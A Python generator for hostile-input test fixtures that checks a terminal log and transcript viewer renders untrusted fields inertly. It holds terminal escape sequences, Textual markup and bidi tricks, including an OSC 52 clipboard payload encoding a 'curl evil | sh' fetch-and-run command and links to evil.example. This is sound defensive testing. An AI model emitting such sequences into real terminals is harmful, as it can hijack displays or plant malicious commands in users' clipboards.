"""Regenerate the hostile-input fixtures in this directory (``python tests/data/hostile/generate.py``).

Every string a pane, the detail screen, a notification, the help or a report can show carries Rich/Textual
markup, terminal control sequences (OSC title/link/clipboard, CSI, DCS, ``ESC c``), C1 controls, bidi
overrides and NUL, JSON-escaped so the lines stay valid and reach the screen. A few lines carry raw control
bytes and invalid UTF-8 (invalid JSON): they must become Problems whose text is inert too. See README.md.
"""

from __future__ import annotations

import json
from pathlib import Path

HERE = Path(__file__).parent
T0 = 1_787_389_200_000  # 2026-08-22T09:00:00Z

OSC_TITLE = "\x1b]0;PWNED\x07"
OSC_LINK = "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\"
OSC_CLIP = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
CSI = "\x1b[2J\x1b[H\x1b[31;1m\x1b[6n"
DCS = "\x1bP+q544e\x1b\\"
RESET = "\x1bc"
C1 = "\x9b31m\x9d0;PWNED\x07"
BIDI = "\u202egnp.exe\u202c"
NUL = "nul\x00byte"
MARKUP = "[bold red]x[/] [link=http://evil.example]link[/link] [$accent]var[/] [@click=app.quit]quit[/] [/x]"


def evil(label: str) -> str:
    """One string with every vector, labelled so a failing screen says which field leaked."""
    return f"{label}:{MARKUP}{OSC_TITLE}{OSC_LINK}{OSC_CLIP}{CSI}{DCS}{RESET}{C1}{BIDI}{NUL}\r\x08\x07end"


def iso(ms: int) -> str:
    from datetime import UTC, datetime

    dt = datetime.fromtimestamp(ms / 1000, tz=UTC)
    return dt.strftime("%Y-%m-%dT%H:%M:%S.") + f"{ms % 1000:03d}Z"


def dumps(obj: object) -> bytes:
    # ensure_ascii keeps every control character escaped (\u001b, \u0000): the file itself is plain ASCII
    return json.dumps(obj, ensure_ascii=True, separators=(",", ":")).encode() + b"\n"


def log_lines() -> bytes:
    out = b""
    for i, (kind, reason) in enumerate(
        [("bootstrap", "registry_miss"), (evil("kind"), evil("reason")), ("fork", evil("fork-reason"))]
    ):
        out += dumps({"ts": iso(T0 + 2000 + i * 10_000), "level": "info", "event": "claude_sdk_oauth_session_continuity",
                      "kind": kind, "reason": reason, "count": 1})  # fmt: skip
    out += dumps(
        {"ts": iso(T0 + 40_000), "level": "info", "event": "claude_sdk_oauth_session_close", "reason": evil("close")}
    )
    out += dumps(
        {"ts": iso(T0 + 41_000), "level": "warn", "event": "provider_error", "kind": "error", "error": evil("error")}
    )
    out += dumps({"ts": iso(T0 + 42_000), "level": evil("level"), "event": evil("event"), "mode": evil("mode")})
    # raw control bytes and invalid UTF-8: not JSON, so Problems (whose text must not echo them raw)
    out += b"\x1b]0;PWNED\x07\x1bc\x9b31m not json \xff\xfe\x00\n"
    out += b'{"ts":"' + iso(T0 + 43_000).encode() + b'","level":"info","event":"raw\x1b[2Jesc"}\n'
    return out


def transcript(session_id: str) -> bytes:
    def user(eid: str, parent: str | None, ms: int, text: str) -> dict:
        return {"type": "message", "id": eid, "parentId": parent, "timestamp": iso(ms),
                "message": {"role": "user", "content": [{"type": "text", "text": text}], "timestamp": ms}}  # fmt: skip

    def assistant(eid: str, parent: str, ms: int, kind: str, reason: str) -> dict:
        return {
            "type": "message", "id": eid, "parentId": parent, "timestamp": iso(ms + 1500),
            "message": {
                "role": "assistant",
                "content": [
                    {"type": "thinking", "thinking": evil("thinking"), "thinkingSignature": "", "startedAt": ms,
                     "endedAt": ms + 10},
                    {"type": "text", "text": evil("assistant-text")},
                    {"type": "toolCall", "id": "toolu_1", "name": evil("tool-name"),
                     "arguments": {"command": evil("tool-arg"), evil("arg-key"): 1}},
                ],
                "api": "claude-sdk-oauth", "provider": evil("provider"), "model": evil("model"),
                "usage": {"input": 6, "output": 10, "cacheRead": 100, "cacheWrite": 50, "totalTokens": 166},
                "stopReason": evil("stop"), "timestamp": ms, "errorMessage": evil("errorMessage"),
                "diagnostics": [{"type": "claude_sdk_oauth_session_continuity", "timestamp": ms + 1000,
                                 "details": {"kind": kind, "reason": reason, "deltaMessages": 1,
                                             "payloadBytes": 900, "collapsedDirectives": 0}}],
            },
        }  # fmt: skip

    entries = [
        {"type": "session", "version": 3, "id": session_id, "timestamp": iso(T0), "cwd": evil("cwd")},
        {"type": "model_change", "id": "a0000001", "parentId": None, "timestamp": iso(T0 + 1),
         "provider": "claude-sdk-oauth", "modelId": evil("modelId")},
        {"type": "custom_message", "customType": evil("customType"),
         "content": "<ultrawork-mode>" + evil("directive") + "</ultrawork-mode>", "display": False,
         "details": {"note": evil("details")}, "id": "a0000002", "parentId": "a0000001", "timestamp": iso(T0 + 2)},
        user("a0000003", "a0000002", T0 + 3, evil("user")),
        assistant("a0000004", "a0000003", T0 + 1000, "bootstrap", "registry_miss"),
        user("a0000005", "a0000004", T0 + 10_000, "plain follow-up"),
        assistant("a0000006", "a0000005", T0 + 11_000, evil("kind"), evil("reason")),
        {"type": "message", "id": "a0000007", "parentId": "a0000006", "timestamp": iso(T0 + 12_000),
         "message": {"role": "toolResult", "toolCallId": "toolu_1", "toolName": evil("toolName"),
                     "content": [{"type": "text", "text": evil("tool-result")}], "isError": False, "timestamp": T0 + 12_000}},
        {"type": "compaction", "id": "a0000008", "parentId": "a0000007", "timestamp": iso(T0 + 13_000),
         "summary": evil("summary"), "firstKeptEntryId": "a0000005", "tokensBefore": 1000},
        {"type": "label", "id": "a0000009", "parentId": "a0000008", "timestamp": iso(T0 + 14_000), "label": evil("label")},
    ]  # fmt: skip
    return b"".join(dumps(e) for e in entries) + b'{"type":"message","id":"raw\x1b]0;PWNED\x07"}\n'


def main() -> None:
    (HERE / "logs").mkdir(exist_ok=True)
    sessions = HERE / "sessions" / "--home-evil-proj--"
    sessions.mkdir(parents=True, exist_ok=True)
    (HERE / "logs" / "session.log").write_bytes(log_lines())
    name = "2026-08-22T09-00-00-000Z_0198f0a1-0000-7000-8000-00000000e711.jsonl"
    (sessions / name).write_bytes(transcript(evil("session-id")))
    sidecar = {"schemaVersion": 1, "sessionPath": evil("sessionPath"), "sessionId": evil("sidecar-session"),
               "markerEntryId": evil("marker"), "sdkSessionId": evil("sdk"), "sentCount": 2,
               "sentPrefixHash": evil("hash"), "assistantContentHash": "0" * 64, "lastAssistantUuid": None,
               "accountName": evil("account"), "modelId": evil("sidecar-model"), "systemPromptHash": "0" * 64,
               "toolsetHash": "0" * 64}  # fmt: skip
    (sessions / (name + ".claude-sdk-oauth-binding.json")).write_bytes(dumps(sidecar))


if __name__ == "__main__":
    main()
